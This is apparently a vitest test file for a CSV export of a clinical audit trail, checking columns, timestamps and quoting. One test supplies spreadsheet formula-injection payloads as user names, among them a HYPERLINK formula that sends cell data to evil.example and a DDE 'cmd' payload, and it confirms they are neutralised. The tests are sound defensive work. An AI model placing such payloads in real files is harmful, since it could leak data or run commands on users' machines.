import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvOfEntries } from '../../../main/audit/csv-of-entries.ts';
import { type AuditEntry, auditEntrySchema } from '../../../shared/audit.ts';

const guid = (digit: string) => `00000000-0000-4000-8000-${digit.repeat(12)}`;

function entry(name: string | null, metadata: AuditEntry['metadata'] = {}): AuditEntry {
  return auditEntrySchema.parse({
    id: '7',
    at: '2026-01-02T03:04:05.678901+00:00',
    occurredAt: '2026-01-02T01:04:05+00:00',
    action: 'report.viewed',
    actor: { id: guid('1'), name, role: 'clinician' },
    entityType: 'diagnosis_run',
    entityId: guid('2'),
    runId: guid('2'),
    patientId: guid('3'),
    requestId: guid('4'),
    metadata,
  });
}

describe('the CSV of the audit trail', () => {
  it('begins with a byte order mark and its columns, and tells times in ISO and UTC', () => {
    const csv = csvOfEntries([entry('Käthe Ünal', { what: 'report' })]);
    expect(csv.startsWith('\ufeffrecorded_at,occurred_at,person,')).toBe(true);
    expect(parse(csv, { bom: true, columns: true })).toEqual([
      {
        recorded_at: '2026-01-02T03:04:05.678Z',
        occurred_at: '2026-01-02T01:04:05.000Z',
        person: 'Käthe Ünal',
        role: 'clinician',
        person_id: guid('1'),
        action: 'report.viewed',
        about: 'diagnosis_run',
        about_id: guid('2'),
        run_id: guid('2'),
        patient_id: guid('3'),
        request_id: guid('4'),
        details: '{"what":"report"}',
      },
    ]);
  });

  it.each([
    '=HYPERLINK("https://evil.example?x="&A1,"Dr. Keller")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
  ])('tells a hostile name as text, which no spreadsheet calculates: %s', (name) => {
    const [row] = parse(csvOfEntries([entry(name)]), { bom: true, columns: true });
    expect(row).toMatchObject({ person: `'${name}` });
  });

  it('keeps quotes, commas and line breaks of a name inside their field', () => {
    const name = 'Keller, "Dr."\r\n=1+1';
    const rows = parse(csvOfEntries([entry(name), entry(null)]), { bom: true, columns: true });
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({ person: name });
    expect(rows[1]).toMatchObject({ person: '' });
  });

  it('without an entry is the row of its columns', () => {
    expect(parse(csvOfEntries([]), { bom: true })).toHaveLength(1);
  });
});
